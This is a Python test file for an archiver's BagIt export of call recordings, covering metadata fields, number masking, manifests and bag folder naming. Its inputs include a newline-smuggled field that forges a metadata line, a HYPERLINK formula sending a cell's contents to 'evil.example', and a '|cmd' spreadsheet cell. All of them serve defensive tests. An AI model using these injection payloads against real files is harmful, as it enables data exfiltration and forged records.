"""The few BagIt files an export writes itself (RFC 8493), as pure functions."""

from __future__ import annotations

from archiver.compliance.bagit import bag_info, bag_root, manifest
from archiver.compliance.export import mask_number

CUSTODY = {
    "created_at": "2026-06-15T13:37:11Z",
    "source": "s3://acme-calls/recordings",
    "selection": {"since": "2024-01-01T00:00:00Z", "until": None, "number": "+14155550100"},
    "options": {"mask_numbers": True, "with_renditions": False},
    "counts": {"recordings": 3, "files": 3, "bytes": 10, "excluded": 1},
}


def fields(body: bytes) -> dict[str, str]:
    lines = body.decode().splitlines()
    assert all(": " in line for line in lines), lines  # no continuation or forged lines
    return dict(line.split(": ", 1) for line in lines)


def test_bag_info_says_what_the_custody_record_says() -> None:
    info = fields(
        bag_info(CUSTODY, export_id="ab" * 32, octets=1234, streams=7, source_organization="Acme", mask=None)
    )
    assert info["Source-Organization"] == "Acme"
    assert info["Bagging-Date"] == "2026-06-15"
    assert info["Payload-Oxum"] == "1234.7"
    assert info["External-Identifier"] == "ab" * 32
    assert info["Export-Selection"] == "since=2024-01-01T00:00:00Z number=+14155550100"
    assert info["Export-Options"] == "mask_numbers=true with_renditions=false"
    assert "3 call recordings" in info["External-Description"]
    assert "s3://acme-calls/recordings" in info["External-Description"]


def test_bag_info_masks_the_number_and_keeps_each_value_on_its_line() -> None:
    body = bag_info(
        CUSTODY,
        export_id="00" * 32,
        octets=1,
        streams=1,
        source_organization="Acme\nPayload-Oxum: 9.9\r\n\u2028x",
        mask=mask_number,
    )
    info = fields(body)
    assert info["Source-Organization"] == "Acme Payload-Oxum: 9.9 x"
    assert info["Payload-Oxum"] == "1.1"
    assert "+14155550100" not in body.decode() and "number=+*******0100" in info["Export-Selection"]
    unset = fields(bag_info(CUSTODY, export_id="0", octets=0, streams=0, source_organization=None))
    assert "Source-Organization" not in unset


def test_manifest_lines_and_percent_encoded_paths() -> None:
    assert manifest([("ab", "data/a b.wav"), ("cd", "data/100%\nx")]) == (
        b"ab  data/a b.wav\ncd  data/100%25%0Ax\n"
    )


def test_a_zipped_bag_is_one_folder_named_like_the_file() -> None:
    assert bag_root("./out/audit-2024-01.zip") == "audit-2024-01/"
    assert bag_root("audit 2024.zip") == "audit_2024/"
    assert bag_root("/tmp/.zip") == "bag/"
    assert bag_root("a..b.zip") == "a_b/"
    assert bag_root("..zip") == "bag/"


def test_manifest_cells_a_spreadsheet_would_run_are_quoted() -> None:
    from archiver.compliance.export import spreadsheet_safe

    assert spreadsheet_safe('=HYPERLINK("http://evil.example/?x="&A1,"click")').startswith("'=")
    assert spreadsheet_safe("@SUM(1+1)|cmd") == "'@SUM(1+1)|cmd"
    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("\tx") == "'\tx"
    assert spreadsheet_safe("+14155551234") == "+14155551234"  # a phone number stays as it is
    assert spreadsheet_safe("CA-123") == "CA-123" and spreadsheet_safe(42) == 42
